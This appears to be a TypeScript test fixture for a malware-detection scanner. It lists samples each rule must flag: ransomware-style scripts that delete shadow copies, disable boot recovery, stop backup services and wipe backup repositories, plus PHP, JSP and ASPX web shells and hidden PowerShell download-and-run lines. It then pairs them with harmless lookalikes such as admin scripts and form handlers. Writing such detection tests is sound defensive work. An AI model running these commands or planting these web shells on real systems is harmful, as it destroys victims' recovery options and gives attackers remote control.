/**
 * Made texts that each starter rule has to find, and texts that only talk about such things. All of them are our own
 * wording, harmless, and lead nowhere: addresses and keys do not exist. `·` stands for a space, and
 * code is joined, so that this file is not found itself.
 */

const BASE64 = Buffer.from('a'.repeat(300)).toString('base64');

const spaced = (text: string): string => text.replaceAll('·', ' ');

/** By the rule that has to find them. */
export const BAD_SAMPLES: Readonly<Record<string, readonly string[]>> = mapped(
  (samples) => samples.map(spaced),
  {
    Destroys_Recovery_Script: [
      '@echo·off\r\nvssadmin.exe·delete·shadows·/all·/quiet\r\nbcdedit·/set·{default}·recoveryenabled·No\r\n',
      'cmd.exe·/c·"wmic·shadowcopy·delete\nwbadmin·delete·catalog·-quiet\n',
      'vssadmin·Delete·Shadows·/All·/Quiet·&·bcdedit.exe·/set·{default}·bootstatuspolicy·ignoreallfailures',
      'Get-WmiObject·Win32_Shadowcopy·|·ForEach-Object·{$_.Delete();}\nwbadmin·DELETE·SYSTEMSTATEBACKUP·-deleteOldest\n',
    ],
    Destroys_Recovery_Program: [
      `MZ\0\0\0${'\0'.repeat(500)}vssadmin.exe·Delete·Shadows·/All·/Quiet\0bcdedit·/set·{default}·recoveryenabled·No\0`,
    ],
    Stops_Backup_Services: [
      [
        'VeeamBackupSvc',
        'VeeamTransportSvc',
        'BackupExecAgentBrowser',
        'AcronisAgent',
        'GxVss',
        'SQLWriter',
        'swprv',
      ]
        .map((service) => `net·stop·"${service}"·/y`)
        .join('\r\n'),
    ],
    Destroys_Backup_Repository: [
      '#!/bin/bash\nunset·HISTFILE\nzfs·destroy·-r·-f·tank/data\nrm·-rf·/mnt/backups/*\nrestic·-r·/srv·forget·--tag·x·--keep-last·0·--prune\n',
      '#!/bin/sh\nesxcli·vm·process·kill·--type=force·--world-id=1\nvim-cmd·vmsvc/snapshot.removeall·1\nrm·-rf·/var/log/*\n',
    ],
    Webshell_PHP: [
      ['<?php @ev', 'al($_PO', 'ST["x"]); ?>'].join(''),
      ['<?php sys', 'tem ( $_GE', "T['c'] );"].join(''),
      ['<?php $a = 1; ev', 'al(gzinfl', `ate(base64_decode("${BASE64}")));`].join(''),
      ['<?= `{$_REQ', "UEST['c']}` ?>"].join(''),
      ['<?php $_GE', "T['f']($_PO", "ST['a']);"].join(''),
    ],
    Webshell_JSP: [
      [
        '<%@ page import="java.io.*" %><% Runtime.getRun',
        'time().exec(request.getPara',
        'meter("c")); %>',
      ].join(''),
      [
        '<%! class U extends Class',
        'Loader { Class g(byte[] b) { return defineCl',
        'ass(b, 0, b.length); } } %><% request.getRead',
        'er(); %>',
      ].join(''),
    ],
    Webshell_ASPX: [
      ['<%@ Page Language="Jscript"%><%ev', 'al(Request.It', 'em["x"],"unsafe");%>'].join(''),
      [
        '<%@ Page Language="C#" %><% var p = new ProcessStart',
        'Info("cmd.e',
        'xe", "/c " + Request.Fo',
        'rm["c"]); Process.St',
        'art(p); %>',
      ].join(''),
      ['<% Set o = CreateObject("WScript.Sh', 'ell") : o.Ex', 'ec(Request.QueryStr', 'ing("c")) %>'].join(''),
    ],
    PowerShell_Encoded_Command: [
      `powershell.exe -NoP -w hidden -enc ${BASE64}`,
      `cmd /c start pwsh -ExecutionPolicy Bypass -EncodedCommand "${BASE64}"`,
    ],
    PowerShell_Download_And_Run: [
      [
        'powershell -nop -w hidden -c "I',
        'EX (New-Object Net.WebClient).DownloadStr',
        "ing('http://192.0.2.1/a')\"",
      ].join(''),
      [
        'powershell -ep bypass -c (New-Object Net.WebClient).DownloadStr',
        "ing('http://192.0.2.1/a') | I",
        'EX',
      ].join(''),
      ['pwsh -NonInteractive -WindowStyle Hidden i', 'ex (iwr http://192.0.2.1/a)'].join(''),
    ],
  },
);

/** By what they are. */
export const QUOTING_SAMPLES: Readonly<Record<string, string>> = mapped(spaced, {
  'a guide to detecting ransomware': `#·Detecting·ransomware

Attackers·often·run·\`vssadmin·delete·shadows·/all·/quiet\`·and·\`bcdedit·/set·{default}·recoveryenabled·no\`·before
they·encrypt.·Detection:·alert·on·both·within·a·minute·(MITRE·T1490).

\`\`\`
vssadmin·delete·shadows·/all·/quiet
bcdedit·/set·{default}·recoveryenabled·no
\`\`\`
`,
  'a news article': `The·hospital·said·its·files·were·encrypted·on·Monday.·The·attackers·demanded·a·payment·in·bitcoin,
and·threatened·that·the·data·would·be·published.·Experts·advise·against·paying.·The·group·runs·a·leak·site·that·can·be
reached·with·Tor·Browser.·Recovery·tools·may·help·some·victims·to·decrypt·their·files.`,
  'a help page of a backup product': `To·restore·your·files,·choose·a·snapshot.·If·your·files·have·been·encrypted·by·you
with·a·password,·enter·the·decryption·key.·Contact·us·if·you·need·help:·support@example.com.·The·price·of·the·business
plan·includes·support.`,
  'a shop that takes bitcoin': `Pay·with·Bitcoin:·send·the·amount·in·BTC·to·the·address·shown·at·checkout.·Contact·us·by
e-mail.·We·will·restore·your·account·and·your·data·within·one·day.`,
  'an administrator who removes one old shadow copy': `@echo·off
rem·free·some·space·on·D:·before·the·monthly·job
vssadmin·delete·shadows·/for=D:·/oldest
echo·done
`,
  'an administrator who restarts services after an update': `net·stop·VeeamBackupSvc
net·start·VeeamBackupSvc
net·stop·SQLWriter
net·start·SQLWriter
`,
  'a prune job': `#!/bin/sh
restic·forget·--keep-daily·7·--keep-weekly·5·--prune
rm·-rf·/srv/backups/tmp
logger·"pruned"
`,
  'PHP that handles a form': `<?php
$name·=·htmlspecialchars($_POST['name']);
if·(isset($_GET['id']))·{·$row·=·$db->query('SELECT·*·FROM·t·WHERE·id·=·'·.·(int)·$_GET['id']);·}
exec('/usr/bin/convert·in.png·out.jpg');
echo·base64_decode($row['text']);
`,
  'an ASP.NET page': `<%@·Page·Language="C#"·%><%·var·id·=·Request.QueryString["id"];·Response.Write(Server.HtmlEncode(id));·%>`,
  'a JSP page': `<%@·page·contentType="text/html"·%><%·String·q·=·request.getParameter("q");·%><c:out·value="\${q}"/>`,
  'how to install a package manager': `Set-ExecutionPolicy·Bypass·-Scope·Process·-Force;·powershell·-NoProfile·-c·iex·((New-Object
System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))`,
  'a scheduled task of an administrator': `powershell.exe·-NoProfile·-ExecutionPolicy·Bypass·-File·C:\\scripts\\backup.ps1`,
});

function mapped<Before, After>(
  change: (value: Before) => After,
  samples: Readonly<Record<string, Before>>,
): Readonly<Record<string, After>> {
  return Object.fromEntries(Object.entries(samples).map(([name, value]) => [name, change(value)]));
}
